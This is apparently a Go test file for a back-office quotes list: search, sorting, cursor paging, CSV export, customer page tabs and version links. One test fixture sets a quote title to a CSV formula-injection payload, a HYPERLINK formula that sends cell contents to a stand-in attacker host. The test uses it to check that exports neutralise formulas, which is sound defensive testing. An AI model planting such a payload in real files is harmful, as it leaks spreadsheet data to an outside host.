package orders

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/url"
	"sort"
	"strings"
	"testing"

	"backoffice/internal/auth"
	"backoffice/internal/httpx"
	"backoffice/internal/listq"
	"backoffice/internal/testkit"
)

// listEnv is a customer with 23 quotes titled "Lijst 00" … "Lijst 22" (one a formula),
// the first 5 sent, for the list tools' tests.
func listEnv(t *testing.T) (*env, string) {
	e := setup(t, monday2March)
	tag := fmt.Sprintf("lt%d", e.cust.ID)
	for i := 0; i < 23; i++ {
		title := fmt.Sprintf("Lijst %02d %s", (i*7)%23, tag)
		if i == 11 {
			title = `=HYPERLINK("https://evil.example/?"&A1,"x") ` + tag
		}
		q := e.createQuote(t, map[string]any{"title": title})
		if i < 5 {
			e.a.Do(t, "POST", fmt.Sprintf("/api/v1/quotes/%d/send", q.ID), e.am.Token, nil).Expect(t, 200)
		}
	}
	return e, tag
}

// TestQuoteListTools covers search, sort, filters and cursor paging of GET
// /api/v1/quotes, and the CSV export through the same query (issue 13).
func TestQuoteListTools(t *testing.T) {
	e, tag := listEnv(t)
	base := fmt.Sprintf("/api/v1/quotes?customer_id=%d", e.cust.ID)
	all := func(t *testing.T, query string) []QuoteOut {
		return testkit.AllPages[QuoteOut](t, e.a, e.am.Token, base+"&"+query)
	}
	t.Run("search_finds_number_title_and_customer", func(t *testing.T) {
		if got := all(t, "q=lijst+07"); len(got) != 1 || !strings.HasPrefix(got[0].Title, "Lijst 07") {
			t.Fatalf("search by title: %+v", got)
		}
		if got := all(t, "q="+url.QueryEscape(strings.ToUpper(tag))); len(got) != 23 {
			t.Fatalf("search is case-insensitive and finds all 23 quotes, got %d", len(got))
		}
		one := all(t, "q=lijst+03")[0]
		if got := all(t, "q="+one.Number); len(got) != 1 || got[0].ID != one.ID {
			t.Fatalf("search by number %s: %+v", one.Number, got)
		}
		if got := all(t, "q="+url.QueryEscape(e.cust.Name)); len(got) != 23 {
			t.Fatalf("search by customer name finds the customer's 23 quotes, got %d", len(got))
		}
		if got := all(t, "q=100%25"); len(got) != 0 {
			t.Fatalf("%% is literal, not a wildcard: %d", len(got))
		}
	})
	t.Run("sort_pages_in_order_without_gaps", func(t *testing.T) {
		for _, dir := range []string{"asc", "desc"} {
			got := all(t, "sort=title&dir="+dir+"&limit=4")
			titles := make([]string, len(got))
			seen := map[int64]bool{}
			for i, q := range got {
				titles[i] = q.Title
				if seen[q.ID] {
					t.Fatalf("quote %d twice across pages", q.ID)
				}
				seen[q.ID] = true
			}
			if len(got) != 23 {
				t.Fatalf("%s: %d quotes over the pages, want 23", dir, len(got))
			}
			ok := sort.StringsAreSorted(titles)
			if dir == "desc" {
				ok = sort.SliceIsSorted(titles, func(i, j int) bool { return titles[i] > titles[j] })
			}
			if !ok {
				t.Fatalf("%s: not sorted across pages: %q", dir, titles)
			}
		}
		got := all(t, "sort=total&dir=asc&limit=5")
		if len(got) != 23 {
			t.Fatalf("sort by total: %d", len(got))
		}
	})
	t.Run("filters_combine_with_search_and_sort", func(t *testing.T) {
		got := all(t, "status=sent&q="+tag+"&sort=number&dir=asc&limit=2")
		if len(got) != 5 {
			t.Fatalf("sent quotes: %d, want 5", len(got))
		}
		for _, q := range got {
			if q.Status != "sent" {
				t.Fatalf("status filter lost while paging: %s", q.Status)
			}
		}
	})
	t.Run("bad_list_parameters", func(t *testing.T) {
		r := e.a.Do(t, "GET", base+"&sort=customer_name&dir=up", e.am.Token, nil).Expect(t, 422)
		if fe := strings.Join(r.FieldErrors(t), " "); !strings.Contains(fe, "sort") || !strings.Contains(fe, "dir") {
			t.Fatalf("field errors %s", fe)
		}
		var l httpx.List[QuoteOut]
		e.a.Do(t, "GET", base+"&sort=title&limit=2", e.am.Token, nil).Expect(t, 200).JSON(t, &l)
		r = e.a.Do(t, "GET", base+"&sort=number&after="+*l.Next, e.am.Token, nil).Expect(t, 400)
		if r.Code(t) != "invalid_cursor" {
			t.Fatalf("a cursor of another sort: %s", r.Code(t))
		}
		e.a.Do(t, "GET", base+"&q="+strings.Repeat("x", 101), e.am.Token, nil).Expect(t, 422)
	})
	t.Run("csv_exports_the_filtered_list_formula_safe", func(t *testing.T) {
		defer func(n int) { listq.ExportBatch = n }(listq.ExportBatch)
		listq.ExportBatch = 4 // 23 rows: six batches, each continuing from the last row's cursor
		r := e.a.Do(t, "GET", base+"&format=csv&sort=title&dir=asc&q="+tag, e.am.Token, nil).Expect(t, 200)
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("content type %s", ct)
		}
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename=quotes.csv` {
			t.Fatalf("content disposition %s", cd)
		}
		rows := readCSV(t, r.Body)
		if len(rows) != 24 || rows[0][0] != "Number" {
			t.Fatalf("%d rows, want header + 23", len(rows))
		}
		var titles []string
		formula := false
		for _, row := range rows[1:] {
			titles = append(titles, row[2])
			if strings.Contains(row[2], "HYPERLINK") {
				formula = strings.HasPrefix(row[2], "'=")
			}
		}
		if !formula {
			t.Fatal("the formula title is not neutralised")
		}
		if !sort.StringsAreSorted(titles) {
			t.Fatalf("the export is not in the page's sort: %q", titles)
		}
		sent := readCSV(t, e.a.Do(t, "GET", base+"&format=csv&status=sent", e.am.Token, nil).Expect(t, 200).Body)
		if len(sent) != 6 {
			t.Fatalf("the status filter applies to the export: %d rows", len(sent))
		}
		page := readCSV(t, e.a.Do(t, "GET", fmt.Sprintf("/quotes?format=csv&customer_id=%d&q=%s", e.cust.ID, tag), e.am.Token, nil).Expect(t, 200).Body)
		if len(page) != 24 {
			t.Fatalf("the page's CSV link exports %d rows", len(page))
		}
		// access is the list's: a contact exports its own company's sent quotes only
		own := readCSV(t, e.a.Do(t, "GET", "/api/v1/quotes?format=csv", e.contact.Token, nil).Expect(t, 200).Body)
		if len(own) != 6 {
			t.Fatalf("the contact's export has %d rows, want its 5 sent quotes", len(own)-1)
		}
		if rows := readCSV(t, e.a.Do(t, "GET", "/api/v1/quotes?format=csv", e.other.Token, nil).Expect(t, 200).Body); len(rows) != 1 {
			t.Fatalf("another company's contact exports %d rows", len(rows)-1)
		}
		e.a.Do(t, "GET", "/quotes?format=csv", e.contact.Token, nil).Expect(t, 403)
	})
}

// TestQuotesPageKeepsFilters: the quotes page's sort headers, next page and CSV link carry
// the filters, the search and the sort (issue 13).
func TestQuotesPageKeepsFilters(t *testing.T) {
	e, tag := listEnv(t)
	for i := 0; i < 40; i++ { // with the 18 drafts of listEnv more than a page of drafts
		e.createQuote(t, map[string]any{"title": fmt.Sprintf("Vol %02d %s", i, tag)})
	}
	body := e.page(t, fmt.Sprintf("/quotes?status=draft&customer_id=%d&q=%s&sort=title&dir=desc", e.cust.ID, tag),
		`name="q" value="`+tag+`"`, `name="sort" value="title"`, `aria-sort="descending"`, `id="next-page"`, `id="export-csv"`)
	for _, want := range []string{
		// next page: filters, search and sort kept, plus the cursor
		fmt.Sprintf(`customer_id=%d&amp;dir=desc&amp;q=%s&amp;sort=title&amp;status=draft`, e.cust.ID, tag),
		// the title header turns the direction and keeps the filters; the number header sorts ascending
		fmt.Sprintf(`/quotes?customer_id=%d&amp;dir=asc&amp;q=%s&amp;sort=title&amp;status=draft`, e.cust.ID, tag),
		fmt.Sprintf(`/quotes?customer_id=%d&amp;dir=asc&amp;q=%s&amp;sort=number&amp;status=draft`, e.cust.ID, tag),
		fmt.Sprintf(`/quotes?customer_id=%d&amp;dir=desc&amp;format=csv&amp;q=%s&amp;sort=title&amp;status=draft`, e.cust.ID, tag),
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	if strings.Contains(body, "Lijst 00") || !strings.Contains(body, "Vol 39") {
		t.Error("the first page is not the top of the title sort, descending")
	}
}

func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	return rows
}

// TestCustomerPageTabs: the customer page shows the customer's quotes, orders and
// contracts as tabs (links, no JavaScript), each a paginated list through the list's own
// query, and only the tabs the user's role may see (issue 13).
func TestCustomerPageTabs(t *testing.T) {
	e, _ := listEnv(t)
	path := fmt.Sprintf("/customers/%d", e.cust.ID)
	first := e.page(t, path+"?tab=quotes", `data-tab="quotes"`, `data-tab="orders"`, `data-tab="contracts"`, `class="active" aria-current="page">Quotes`, `id="next-page"`)
	rowsOf := func(page string) int {
		i := strings.Index(page, `id="tab-list"`)
		if i < 0 {
			return 0
		}
		return strings.Count(page[i:i+strings.Index(page[i:], "</table>")], "<tr>") - 1
	}
	if n := rowsOf(first); n != 20 {
		t.Fatalf("first page of the quotes tab has %d rows, want 20", n)
	}
	i := strings.Index(first, `href="?after=`)
	if i < 0 {
		t.Fatal("the next-page link does not keep the tab")
	}
	href := first[i+len(`href="`):]
	href = strings.ReplaceAll(href[:strings.Index(href, `"`)], "&amp;", "&")
	if !strings.Contains(href, "tab=quotes") {
		t.Fatalf("next page %s loses the tab", href)
	}
	second := e.page(t, path+href)
	if n := rowsOf(second); n != 3 || strings.Contains(second, `id="next-page"`) {
		t.Fatalf("second page has %d rows, want the last 3", n)
	}
	e.page(t, path+"?tab=contracts", "No contracts for this customer.")
	e.a.Do(t, "GET", path+"?tab=nope", e.am.Token, nil).Expect(t, 404)
	tech := testkit.Login(t, auth.Technician, nil)
	e.a.Do(t, "GET", path+"?tab=quotes", tech.Token, nil).Expect(t, 404)
	if body := string(e.a.Do(t, "GET", path, tech.Token, nil).Expect(t, 200).Body); strings.Contains(body, `data-tab="quotes"`) || !strings.Contains(body, `data-tab="orders"`) {
		t.Fatal("a technician sees the tabs of its role only")
	}
}

// TestQuoteVersionLinks: a quote page names its version among all ("version 1 of 3") and
// links the others, marking the live one (issue 13).
func TestQuoteVersionLinks(t *testing.T) {
	e := setup(t, monday2March)
	v1 := e.sentQuote(t, nil)
	var v2, v3 QuoteOut
	e.a.Do(t, "POST", fmt.Sprintf("/api/v1/quotes/%d/revise", v1.ID), e.am.Token, nil).Expect(t, 201).JSON(t, &v2)
	e.a.Do(t, "POST", fmt.Sprintf("/api/v1/quotes/%d/send", v2.ID), e.am.Token, nil).Expect(t, 200)
	e.a.Do(t, "POST", fmt.Sprintf("/api/v1/quotes/%d/revise", v2.ID), e.am.Token, nil).Expect(t, 201).JSON(t, &v3)
	body := e.page(t, fmt.Sprintf("/quotes/%d", v1.ID), "version 1 of 3", `<b aria-current="page">v1</b>`,
		fmt.Sprintf(`<a href="/quotes/%d" data-version="2">v2</a>`, v2.ID), fmt.Sprintf(`<a href="/quotes/%d" data-version="3">v3</a>`, v3.ID), "current, Draft")
	if strings.Count(body, "superseded)") != 2 {
		t.Error("the two earlier versions are not marked superseded")
	}
	e.page(t, fmt.Sprintf("/quotes/%d", v3.ID), "version 3 of 3", fmt.Sprintf(`<a href="/quotes/%d" data-version="1">v1</a>`, v1.ID))
}
